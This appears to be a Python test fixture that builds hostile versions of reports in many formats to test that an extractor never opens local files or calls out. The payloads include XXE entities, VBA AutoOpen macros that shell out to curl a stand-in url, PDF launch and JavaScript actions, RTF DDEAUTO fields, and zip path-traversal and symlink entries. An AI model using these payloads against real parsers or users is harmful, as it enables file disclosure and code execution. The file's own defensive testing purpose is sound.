"""Reports of every format that try to make their reader open a file, call home or run something.

Each is a sound report with something added, so that it must be read as if nothing were there. `file` is the
path of a file that must not be opened, `url` an address that must not be asked.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import olefile
import pikepdf

from demo.generate import generate
from extract.readers.compound_file import compound_file
from tests.limits.parts import part, rewritten

WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"


class Hostile(NamedTuple):
    """A hostile file, and the same report without what was added."""

    name: str
    data: bytes
    clean: bytes


def clean(skin: str) -> bytes:
    return generate(21, edition="e2021", skin=skin).data


def hostile_files(file: Path, url: str) -> Iterator[Hostile]:
    """All of them."""
    for make in (docx_files, xlsx_files, ofd_files, html_files, pdf_files, rtf_files, ole_files, zip_files):
        yield from make(file, url)


def entities(root: str, file: Path, url: str) -> bytes:
    """A document type that fetches and includes; to be put before the root element."""
    return (
        f'<!DOCTYPE {root} SYSTEM "{url}/x.dtd" [<!ENTITY x SYSTEM "{file.as_uri()}">'
        f'<!ENTITY u SYSTEM "{url}/x.txt"><!ENTITY % p SYSTEM "{file.as_uri()}">%p;'
        f'<!ENTITY % q SYSTEM "{url}/q.dtd">%q;]>'
    ).encode()


def with_entities(xml: bytes, kind: bytes, place: bytes, used: bytes) -> bytes:
    """XML with the document type `kind`, and `used`, which names its entities, in front of `place`."""
    declaration, closed, rest = xml.partition(b"?>") if xml.startswith(b"<?xml") else (b"", b"", xml)
    before, at, after = rest.partition(place)
    assert at
    return declaration + closed + kind + before + b"<w:p xmlns:w='%s'>%s</w:p>" % (WORD, used) + at + after


def docx_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("docx")
    document = part(data, "word/document.xml")
    kind = entities("w:document", file, url)
    called = with_entities(document, kind, b"<w:sectPr", b"&x;&u;")
    yield Hostile("entities.docx", rewritten(data, {"word/document.xml": called}), data)
    relations = part(data, "word/_rels/document.xml.rels")
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    added = "".join(
        f'<Relationship Id="h{number}" Type="{relation}/{name}" Target="{target}" TargetMode="External"/>'
        for number, (name, target) in enumerate(
            [
                ("attachedTemplate", f"{url}/t.dotm"),
                ("image", f"{url}/i.png"),
                ("image", file.as_uri()),
                ("aFChunk", f"../../../../../../..{file}"),
                ("oleObject", str(file)),
                ("frame", f"{url}/frame"),
            ]
        )
    )
    drawn = (
        b'<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="r" r:link="h1"/><a:blip xmlns:a="a" xmlns:r="r" '
        b'r:embed="h2"/></w:drawing></w:r></w:p><w:altChunk xmlns:r="r" r:id="h3"/><w:sectPr'
    )
    yield Hostile(
        "relations.docm",
        rewritten(
            data,
            {
                "word/document.xml": document.replace(b"<w:sectPr", drawn, 1),
                "word/_rels/document.xml.rels": relations.replace(
                    b"</Relationships>", added.encode() + b"</Relationships>"
                ),
                "word/vbaProject.bin": compound_file({"dir": b'Sub AutoOpen()\nShell "sh"\nEnd Sub'}),
                f"../../../../../..{file}": b"climbs out",
            },
        ),
        data,
    )


def xlsx_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("xlsx")
    sheet = part(data, "xl/worksheets/sheet1.xml")
    relations = part(data, "xl/_rels/workbook.xml.rels")
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
    yield Hostile(
        "entities.xlsx",
        rewritten(
            data,
            {
                "xl/worksheets/sheet1.xml": entities("worksheet", file, url) + sheet,
                "xl/_rels/workbook.xml.rels": relations.replace(
                    b"</Relationships>",
                    f'<Relationship Id="h1" Type="{kind}" Target="{url}/b.xlsx" TargetMode="External"/>'
                    "</Relationships>".encode(),
                ),
                "xl/externalLinks/externalLink1.xml": f'<externalLink href="{file.as_uri()}"/>'.encode(),
                "xl/vbaProject.bin": compound_file({"dir": b"Sub Workbook_Open()"}),
            },
        ),
        data,
    )


def ofd_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("ofd")
    document = part(data, "Doc_0/Document.xml")
    kind = entities("ofd:Document", file, url)
    called = with_entities(document, kind, b"<ofd:Pages", b"&x;&u;")
    yield Hostile("entities.ofd", rewritten(data, {"Doc_0/Document.xml": called}), data)
    climbing = (
        f"<ofd:DocumentRes>../../../../../../..{file}</ofd:DocumentRes><ofd:PublicRes>{file}</ofd:PublicRes>"
        f"<ofd:PublicRes>{url}/res.xml</ofd:PublicRes></ofd:CommonData>"
    ).encode()
    yield Hostile(
        "climbing.ofd",
        rewritten(data, {"Doc_0/Document.xml": document.replace(b"</ofd:CommonData>", climbing)}),
        data,
    )


def html_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("html_clean")
    local = file.as_uri()
    calls = (
        f'<base href="{url}/"><link rel=stylesheet href="{url}/s.css"><link rel=import href="{local}">'
        f'<script src="{url}/s.js"></script><meta http-equiv=refresh content="0;url={url}/r">'
        f'<img src="{url}/i.png" width=900><iframe src="{local}"></iframe><object data="{local}"></object>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{local}" parse="text"/>'
    ).encode()
    doctype = data.index(b"<html")
    called = data[doctype:].replace(b"<body>", b"<body>" + calls, 1)
    assert called != data[doctype:]
    yield Hostile("calls.html", entities("html", file, url) + called, data)
    mail = (
        (
            f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: message/"
            f'external-body; access-type=local-file; name="{file}"\n\nContent-Type: text/plain\n\n--b\n'
            f"Content-Type: text/html; charset=utf-8\nContent-Location: {local}\n\n"
        ).encode()
        + called
        + b"\n--b--\n"
    )
    yield Hostile("calls.mht", mail, data)
    markdown = clean("markdown")
    yield Hostile("calls.md", f"![]({url}/i.png)\n![]({local})\n\n".encode() + markdown, markdown)


def pdf_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("pdf_lines")
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        name = pikepdf.Name
        launch = {"/S": name.Launch, "/F": str(file), "/Win": {"/F": "cmd.exe"}}
        visit = {"/S": name.URI, "/URI": f"{url}/open"}
        send = {"/S": name.SubmitForm, "/F": {"/FS": name.URL, "/F": f"{url}/submit"}}
        script = {"/S": name.JavaScript, "/JS": f"app.launchURL('{url}/js')", "/Next": [launch, visit, send]}
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(script))
        document.attachments["../../evil.pdf"] = pikepdf.AttachedFileSpec(  # type: ignore[call-arg]
            document, b"MZ evil", filename="../../evil.exe"
        )
        form = f"{entities('xdp', file, url).decode()}<xdp>&x;&u;</xdp>".encode()
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(form))
        # Streams whose content lies in other files, as the format allows: on this machine and elsewhere.
        outside = document.make_stream(b"", F=str(file))
        elsewhere = document.make_stream(b"", F=pikepdf.Dictionary(FS=name.URL, F=f"{url}/c"))
        page = document.pages[0]
        page.Contents = pikepdf.Array([*_streams(page.Contents), outside, elsewhere])
        page.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 600, 800], A=visit)]
        )
        document.save(out)
    yield Hostile("actions.pdf", out.getvalue(), data)


def _streams(contents: pikepdf.Object) -> list[pikepdf.Object]:
    return list(contents) if isinstance(contents, pikepdf.Array) else [contents]


def rtf_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("rtf")
    fields = "".join(
        rf'{{\field{{\*\fldinst {command} "{target}"}}{{\fldrslt }}}}'
        for command in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Word.Document.8", "DDEAUTO cmd")
        for target in (str(file), f"{url}/f")
    )
    added = (
        rf"{{\*\template {url}/t.dotm}}{{\object\objautlink\objupdate{{\*\objdata 0105000002000000}}}}"
        rf"{{\*\fileTbl{{\file\fid0 {file}}}}}{{\subdoc0}}{fields}"
    )
    place = data.index(rb"\pard")
    yield Hostile("fields.rtf", data[:place] + added.encode() + data[place:], data)


def ole_files(file: Path, url: str) -> Iterator[Hostile]:
    macro = f'Sub AutoOpen()\nShell "curl {url}"\nOpen "{file}" For Input As #1\nEnd Sub'.encode()
    for skin in ("doc", "xls"):
        data = clean(skin)
        with olefile.OleFileIO(io.BytesIO(data)) as ole:
            streams = {name: ole.openstream(name).read() for (name,) in ole.listdir()}
        yield Hostile(f"macro.{skin}", compound_file({**streams, "_VBA_PROJECT": macro, "dir": macro}), data)


def zip_files(file: Path, url: str) -> Iterator[Hostile]:
    data = clean("docx")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in (f"../../../../../../..{file}", str(file), r"C:\evil.docx", "..", "a/../../b.txt"):
            archive.writestr(name, b"climbs out")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(file))
        archive.writestr("政府信息公开工作年度报告.docx", data)
    yield Hostile("climbing.zip", out.getvalue(), data)
